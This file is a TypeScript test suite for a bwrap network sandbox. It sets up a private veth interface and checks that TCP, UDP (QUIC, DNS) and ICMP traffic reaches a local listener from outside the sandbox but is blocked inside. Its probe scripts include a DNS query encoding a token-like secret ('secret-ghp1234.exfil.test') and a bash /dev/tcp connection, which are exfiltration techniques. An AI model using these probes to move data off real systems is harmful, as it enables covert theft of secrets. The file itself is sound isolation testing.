// The native sandbox against services on an address that is not loopback: a
// veth pair this test creates on the host and gives a private /30 of its own
// (10.213.x.1), standing in for another machine. TCP (IPv4 and IPv6), UDP to
// 443 (QUIC) and to 53 (DNS, a query that encodes data), and ICMP echo: each
// reaches our listener from outside the sandbox and nothing does from inside.
// Creating interfaces needs root; CI runs as root.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { createServer, type Server } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { needs, needsRoot } from '../helpers.js';
import { attackHome } from '../native-setup.js';
import { unusedSubnet } from '../net-setup.js';

const root = process.getuid?.() === 0;
const tag = String(process.pid % 100000);
const LINK = `sbt${tag}a`;
const PEER = `sbt${tag}b`;
// A /30 and a /64 that overlap no route of this host.
const V4_NET = root ? unusedSubnet('ipv4', [0, 1, 2, 3].map((i) => `10.213.${(process.pid + i * 61) % 250}.0/30`)) : '10.213.0.0/30';
const V4 = V4_NET.replace(/\.0\/30$/, '.1');
const V6 = `${(root ? unusedSubnet('ipv6', [0, 1, 2, 3].map((i) => `fd5b:213:${((process.pid + i * 61) % 65000).toString(16)}::/64`)) : 'fd5b:213::/64').replace(/::\/64$/, '')}::1`;
const TCP_PORT = 18443;

function ip(...args: string[]): void {
  const r = spawnSync('ip', args, { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`ip ${args.join(' ')}: ${r.stderr}`);
}

// A DNS query for a name that carries data, sent straight to a resolver address.
const dnsQuery = (server: string, family: 4 | 6 = 4) =>
  `python3 -c "
import socket, struct
name = b''.join(bytes([len(l)]) + l for l in b'secret-ghp1234.exfil.test'.split(b'.')) + b'\\0'
q = struct.pack('>HHHHHH', 0x5b5b, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET${family === 6 ? '6' : ''}, socket.SOCK_DGRAM)
try:
    s.sendto(q, ('${server}', 53)); print('dns sent')
except OSError as e:
    print('dns', e.strerror)
"`;

const quic = `python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b'QUIC-INITIAL', ('${V4}', 443)); print('quic sent')
except OSError as e:
    print('quic', e.strerror)
"`;

// ICMP echo: a raw socket (root with CAP_NET_RAW) and the unprivileged
// datagram kind (ping_group_range); prints the reply's source or the error.
const icmp = `python3 -c "
import socket, struct
def csum(b):
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
pkt = struct.pack('!BBHHH', 8, 0, 0, 1, 1) + b'PING'
pkt = struct.pack('!BBHHH', 8, 0, csum(pkt), 1, 1) + b'PING'
for kind, name in ((socket.SOCK_RAW, 'raw'), (socket.SOCK_DGRAM, 'dgram')):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); s.settimeout(2)
        s.sendto(pkt, ('${V4}', 0)); data, addr = s.recvfrom(200); print('icmp', name, 'reply from', addr[0])
    except OSError as e:
        print('icmp', name, e.strerror or e)
"`;

describe('native network against another address (real bwrap, a veth of our own)', { ...needs('bwrap'), ...needsRoot('it creates a network interface') }, () => {
  let a: ReturnType<typeof attackHome>;
  const seen: string[] = [];
  const servers: Server[] = [];
  const udps: UdpSocket[] = [];

  before(async () => {
    ip('link', 'add', LINK, 'type', 'veth', 'peer', 'name', PEER);
    ip('addr', 'add', `${V4}/30`, 'dev', LINK);
    ip('-6', 'addr', 'add', `${V6}/64`, 'dev', LINK, 'nodad');
    ip('link', 'set', LINK, 'up');
    ip('link', 'set', PEER, 'up');
    for (const host of [V4, V6]) {
      const s = createServer((c) => {
        seen.push(`tcp ${host}`);
        c.end('REMOTE-SERVICE\n');
      });
      await new Promise<void>((r) => s.listen(TCP_PORT, host, r));
      servers.push(s);
    }
    for (const port of [53, 443]) {
      const u = createSocket('udp4');
      u.on('message', (m) => seen.push(`udp ${port} ${m.length} bytes`));
      await new Promise<void>((r) => u.bind(port, V4, r));
      udps.push(u);
    }
    a = attackHome();
  });
  after(() => {
    for (const s of servers) s.close();
    for (const u of udps) u.close();
    spawnSync('ip', ['link', 'del', LINK]);
    a?.cleanup();
  });

  const tcpScript =
    `curl -sS --http0.9 --noproxy '*' --max-time 3 http://${V4}:${TCP_PORT}/ 2>&1 | tail -1; ` +
    `curl -sS --http0.9 --noproxy '*' --max-time 3 'http://[${V6}]:${TCP_PORT}/' 2>&1 | tail -1; ` +
    `bash -c 'exec 3<>/dev/tcp/${V4}/${TCP_PORT} && head -1 <&3' 2>&1 | tail -1; ` +
    `python3 -c "
import socket
try:
    s = socket.create_connection(('${V6}', ${TCP_PORT}), 3); print(s.recv(100).decode().strip())
except OSError as e:
    print('python', e.strerror)
"`;

  test('TCP over IPv4 and IPv6: reached outside, unreachable inside', async () => {
    const out = await a.outside(tcpScript);
    assert.equal(out.stdout, 'REMOTE-SERVICE\n'.repeat(4), out.stderr);
    seen.length = 0;
    const r = await a.inside(tcpScript);
    assert.doesNotMatch(r.stdout, /REMOTE-SERVICE/);
    const lines = r.stdout.split('\n');
    assert.match(lines[0]!, new RegExp(`^curl: \\(7\\) Failed to connect to ${V4.replace(/\./g, '\\.')} port ${TCP_PORT}`));
    assert.match(lines[1]!, new RegExp(`^curl: \\(7\\) Failed to connect to ${V6} port ${TCP_PORT}`));
    assert.match(lines[2]!, /Network is unreachable$/);
    assert.equal(lines[3], 'python Network is unreachable');
    assert.deepEqual(seen, []);
  });

  test('UDP to 443 (QUIC) and a DNS query carrying data: received outside, never inside', async () => {
    seen.length = 0;
    const out = await a.outside(`${quic}; ${dnsQuery(V4)}`);
    assert.equal(out.stdout, 'quic sent\ndns sent\n', out.stderr);
    await new Promise((res) => setTimeout(res, 200));
    assert.deepEqual(seen.sort(), ['udp 443 12 bytes', 'udp 53 43 bytes']);
    seen.length = 0;
    const r = await a.inside(`${quic}; ${dnsQuery(V4)}; ${dnsQuery(V6, 6)}`);
    assert.equal(r.stdout, 'quic Network is unreachable\ndns Network is unreachable\ndns Network is unreachable\n', r.stderr);
    await new Promise((res) => setTimeout(res, 200));
    assert.deepEqual(seen, []);
  });

  test('name lookups through the system resolver fail inside', async () => {
    // Inside there is no route to any resolver: the lookup fails without a packet leaving.
    const r = await a.inside('getent ahosts secret-ghp1234.exfil.test; echo "getent=$?"; python3 -c "import socket; socket.getaddrinfo(\'example.invalid\', 443)" 2>&1 | tail -1');
    assert.match(r.stdout, /^getent=2\n/);
    assert.match(r.stdout, /socket\.gaierror: \[Errno -[23]\]/);
  });

  test('ICMP echo: answered outside, no socket for it inside', async () => {
    const out = await a.outside(icmp);
    assert.match(out.stdout, new RegExp(`^icmp raw reply from ${V4.replace(/\./g, '\\.')}\n`), out.stdout + out.stderr);
    const r = await a.inside(icmp);
    // No CAP_NET_RAW, and the namespace's ping_group_range admits no one.
    assert.equal(r.stdout, 'icmp raw Operation not permitted\nicmp dgram Permission denied\n', r.stderr);
  });
});
